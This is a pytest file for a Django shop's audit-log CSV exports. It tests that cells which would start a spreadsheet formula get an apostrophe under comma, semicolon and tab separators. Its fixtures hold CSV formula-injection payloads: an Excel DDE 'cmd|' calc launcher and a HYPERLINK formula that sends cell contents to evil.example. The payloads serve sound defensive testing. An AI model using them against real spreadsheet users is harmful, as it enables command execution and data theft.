"""CSV exports neutralise formula prefixes (issue 11, point 12): a cell that a spreadsheet would
run as a formula (starting with =, +, -, @, tab or carriage return) is written with a leading
apostrophe; every other cell is written unchanged.

And they stay text in every spreadsheet (review round, 2026-12-07): French and German Excel
split a .csv on semicolons, not commas, and some readers split on tabs or start a row at a line
break inside a cell. Wherever such a reader starts a cell, the cell must not start a formula.
Python's csv module stands in for the spreadsheet: the export is read back with ",", ";" and
tab as the separator (``newline=""``, so that a lone carriage return ends a row as in Excel)."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from login_as_customer.models import AssistedSession
from shopassist.audit.exports import neutralise_cell, stream_csv
from shopassist.audit.writer import record
from shopassist.customers.models import Customer
from tests.audit.helpers import csv_rows
from tests.login_as_customer.assisted import start

LOG = reverse("admin:login_as_customer_log")
REPORT = reverse("admin:audit_report")
# A customer chooses their e-mail: this one is valid and is Excel's classic DDE payload.
FORMULA_EMAIL = "=cmd|'/Ccalc'!A0@example.com"
FORMULA_REASONS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "+cmd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
]
# Cells the web forms would strip or refuse, written as the log stores names "as they were".
WHITESPACE_NAMES = ["\tx", "\rx"]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ticket #4242", "Ticket #4242"),
        ("a=b", "a=b"),
        ("jane.doe@example.com", "jane.doe@example.com"),
        ("'already", "'already"),
        ("", ""),
        (42, "42"),
        (None, None),
    ],
)
def test_a_cell_gets_an_apostrophe_only_when_it_would_start_a_formula(value, written):
    assert neutralise_cell(value) == written


@pytest.fixture
def formula_customer(db, demo):
    """A customer who registered on the storefront with a formula as e-mail, and consented."""
    response = Client().post(
        "/en/customer/account/create/",
        {
            "first_name": "=HYPERLINK(A1)",
            "last_name": "+Lovelace",
            "email": FORMULA_EMAIL,
            "password": "Analytical-Engine-1843",
            "password_confirmation": "Analytical-Engine-1843",
            "assistance-allow": "on",
        },
    )
    assert response.status_code == 302, response.content[:800]
    return Customer.objects.get(email=FORMULA_EMAIL.lower())


@pytest.fixture
def formula_sessions(support_client, formula_customer, jane):
    """Sessions started through the real start POST: formula reasons, one ordinary one."""
    sessions = {}
    for reason in FORMULA_REASONS:
        assert start(support_client, formula_customer, reason=reason).status_code == 200
        sessions[reason] = AssistedSession.objects.latest("id")
    assert start(support_client, jane, reason="Ticket #4242").status_code == 200
    sessions["ordinary"] = AssistedSession.objects.latest("id")
    return sessions


@pytest.fixture
def auditor_client(auditor, admin_client_for):
    return admin_client_for(auditor)


def _by_id(header, rows) -> dict[int, dict]:
    return {int(row[0]): dict(zip(header, row, strict=True)) for row in rows}


def test_the_session_log_export_neutralises_customer_and_staff_text(
    auditor_client, formula_sessions, formula_customer
):
    header, *rows = csv_rows(auditor_client.get(LOG, {"export": "csv"}))
    exported = _by_id(header, rows)

    for reason in FORMULA_REASONS:
        row = exported[formula_sessions[reason].pk]
        assert row["reason"] == "'" + reason
        assert row["customer_email"] == "'" + formula_customer.email
        assert row["customer_id"] == str(formula_customer.pk)
        assert row["admin_username"] == "support"
    ordinary = exported[formula_sessions["ordinary"].pk]
    assert ordinary["reason"] == "Ticket #4242"
    assert ordinary["customer_email"] == "jane.doe@example.com"
    assert ordinary["admin_username"] == "support"
    # The database keeps the values as they were: only the file is neutralised.
    assert AssistedSession.objects.get(pk=formula_sessions["+cmd"].pk).reason == "+cmd"


def test_the_action_report_export_neutralises_every_text_cell(
    auditor_client, formula_sessions, formula_customer
):
    for name in WHITESPACE_NAMES + FORMULA_REASONS:
        record(action_group="admin", action="test.formula", admin_username=name)

    header, *rows = csv_rows(auditor_client.get(REPORT, {"export": "csv"}))
    entries = list(_by_id(header, rows).values())

    customer_cells = {
        e["customer_email"] for e in entries if e["customer_id"] == str(formula_customer.pk)
    }
    assert customer_cells == {"'" + formula_customer.email}
    names = [e["admin_username"] for e in entries if e["action"] == "test.formula"]
    assert sorted(names) == sorted("'" + name for name in WHITESPACE_NAMES + FORMULA_REASONS)
    starts = [e for e in entries if e["action"] == "start" and e["customer_id"]]
    assert starts and all(e["details"].startswith("{") for e in starts)
    jane_start = next(
        e for e in starts if e["assisted_session_id"] == str(formula_sessions["ordinary"].pk)
    )
    assert jane_start["customer_email"] == "jane.doe@example.com"
    assert jane_start["admin_username"] == "support"
    assert jane_start["action_group"] == "login_as_customer"
    for row in entries:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


# --- Readers that split on other separators (review round) -------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SEPARATORS = (",", ";", "\t")
# Reasons a reviewer typed: each opened as a formula cell in a spreadsheet reading ";".
REASONS = [
    "t2;=1+1",
    'ticket;"=1+1',
    "line one\n=HYPERLINK(A1)",
    "line one\r@SUM(1+1)",
    "line one\r\n+cmd",
    "tab\t-1+1",
    "a;\t=1+1",
]


def exported_text(response) -> str:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return b"".join(response.streaming_content).decode()


def read_as(text: str, separator: str) -> list[list[str]]:
    """The rows a spreadsheet splitting on ``separator`` sees."""
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def formula_cells(text: str, *, stripped: bool = False) -> dict[str, list[str]]:
    """For each separator, the cells that would start a formula (none, when safe).

    ``stripped``: a cell is read as a program that strips its leading tabs and line breaks
    would read it. (A reader splitting on ";" can open a quoted cell at a ";" that ends a
    value and carry the file's own row end into it: "\r\n" and the next row, which starts
    with its id. Only random rows, whose first column is no id, give such cells.)"""

    def runs_formula(cell: str) -> bool:
        if stripped:
            return cell.lstrip("\t\r\n").startswith(FORMULA_STARTS[:4])
        return cell.startswith(FORMULA_STARTS)

    return {
        separator: [cell for row in read_as(text, separator) for cell in row if runs_formula(cell)]
        for separator in SEPARATORS
    }


NO_FORMULA = {separator: [] for separator in SEPARATORS}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("t2;=1+1", "t2;'=1+1"),
        ('ticket;"=1+1', "ticket;'\"=1+1"),
        ("line one\n=2", "line one\n'=2"),
        ("line one\r@SUM(1)", "line one\r'@SUM(1)"),
        ("line one\r\n+cmd", "line one\r\n'+cmd"),
        ("tab\t-1", "tab\t'-1"),
        ("a;\t=1", "a;'\t'=1"),
        ('"=1+1', "'\"=1+1"),
        ("=1+1", "'=1+1"),
        # Separators and line breaks before ordinary text, and formula characters elsewhere,
        # are left as they are.
        ("Ticket #4242; wrong size\nsee mail", "Ticket #4242; wrong size\nsee mail"),
        ("a=b;c+d", "a=b;c+d"),
        ("1,-5", "1,-5"),
        (None, None),
    ],
)
def test_a_formula_after_a_separator_or_a_line_break_gets_an_apostrophe(value, written):
    assert neutralise_cell(value) == written


def test_every_cell_is_quoted():
    response = stream_csv("x.csv", ["id", "reason"], iter([(7, "t2;=1+1"), (8, None)]))

    assert exported_text(response).splitlines() == [
        '"id","reason"',
        '"7","t2;\'=1+1"',
        '"8",""',
    ]


@given(
    st.lists(
        st.lists(st.text(alphabet="=+-@\t\r\n;,\"' a1", max_size=12), min_size=1, max_size=4),
        max_size=4,
    )
)
def test_no_text_starts_a_formula_under_any_separator(rows):
    width = max((len(row) for row in rows), default=1)
    rows = [row + [""] * (width - len(row)) for row in rows]
    text = exported_text(stream_csv("x.csv", [f"c{i}" for i in range(width)], iter(rows)))

    assert formula_cells(text, stripped=True) == NO_FORMULA
    # Read as written (commas), every cell is the text, neutralised, and nothing else.
    assert read_as(text, ",")[1:] == [[neutralise_cell(cell) for cell in row] for row in rows]


@pytest.fixture
def semicolon_sessions(db, support_client, jane):
    """Sessions started by the real start POST, with the reviewer's reasons."""
    sessions = {}
    for reason in REASONS:
        assert start(support_client, jane, reason=reason).status_code == 200
        sessions[reason] = AssistedSession.objects.latest("id")
    return sessions


def test_the_session_log_export_has_no_formula_under_any_separator(
    auditor_client, semicolon_sessions
):
    text = exported_text(auditor_client.get(LOG, {"export": "csv"}))

    assert formula_cells(text) == NO_FORMULA
    header, *rows = read_as(text, ",")
    reasons = {int(row[0]): row[header.index("reason")] for row in rows}
    for reason, session in semicolon_sessions.items():
        assert session.reason == reason
        assert reasons[session.pk] == neutralise_cell(reason) != reason
    # The database keeps the reason as typed: only the file is neutralised.
    assert AssistedSession.objects.get(pk=semicolon_sessions["t2;=1+1"].pk).reason == "t2;=1+1"


def test_the_action_report_export_has_no_formula_under_any_separator(
    auditor_client, semicolon_sessions
):
    for reason in REASONS:
        record(action_group="admin", action="test.semicolon", admin_username=reason[:150])

    text = exported_text(auditor_client.get(REPORT, {"export": "csv"}))

    assert formula_cells(text) == NO_FORMULA
    header, *rows = read_as(text, ",")
    names = [row[header.index("admin_username")] for row in rows if "test.semicolon" in row]
    assert sorted(names) == sorted(neutralise_cell(reason) for reason in REASONS)


def test_the_helper_of_the_other_tests_still_reads_the_exports(auditor_client, semicolon_sessions):
    header, *rows = csv_rows(auditor_client.get(LOG, {"export": "csv"}))

    assert header[0] == "id" and len(rows) == len(REASONS)
